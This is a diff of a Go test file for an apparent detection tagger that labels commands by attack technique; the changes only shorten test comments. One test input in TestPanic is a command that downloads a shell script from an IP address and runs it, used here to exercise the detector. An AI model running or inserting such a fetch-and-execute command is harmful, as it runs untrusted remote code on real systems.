@@ -53,8 +53,7 @@ func hostile(size int) map[string]string {
 	}
 }
 
-// TestHostile holds that nothing crashes and everything ends; BenchmarkHostile
-// says how soon.
+// TestHostile: nothing crashes and everything ends; BenchmarkHostile says how fast.
 func TestHostile(t *testing.T) {
 	c := loadEmbedded().Tagger(func(_ ttpcron.Event, rule string, err error) { t.Errorf("%s: %v", rule, err) })
 	for _, text := range hostile(1 << 18) {
@@ -67,8 +66,8 @@ type panicking struct{}
 
 func (panicking) holds(*evaluation) bool { panic("out of order") }
 
-// TestPanic holds that a rule that fails loses its own tags only, and that the
-// verdict is not remembered as if it had finished.
+// TestPanic: a rule that fails loses only its own tags, and the verdict is not remembered
+// as complete.
 func TestPanic(t *testing.T) {
 	rs, _ := Load(Options{Folders: []Folder{{Name: "embedded", FS: Embedded()}}})
 	const text = "wget http://203.0.113.9/a.sh; sh a.sh"
@@ -104,8 +103,7 @@ func tagsOf(c *Composite, text string) []ttpcron.Tag {
 	return tags
 }
 
-// TestCache holds that the cache stays within its bounds and forgets nothing
-// that is used.
+// TestCache: the cache stays within its limits and keeps everything that is used.
 func TestCache(t *testing.T) {
 	var c cache
 	hot, v := "hot", &verdict{}
@@ -133,8 +131,7 @@ func TestCache(t *testing.T) {
 	}
 }
 
-// TestTagAllocations holds that a known text that matches nothing costs no
-// memory.
+// TestTagAllocations: a known text that matches nothing allocates no memory.
 func TestTagAllocations(t *testing.T) {
 	c := loadEmbedded().Tagger(nil)
 	e := commandEvent("linuxshell")
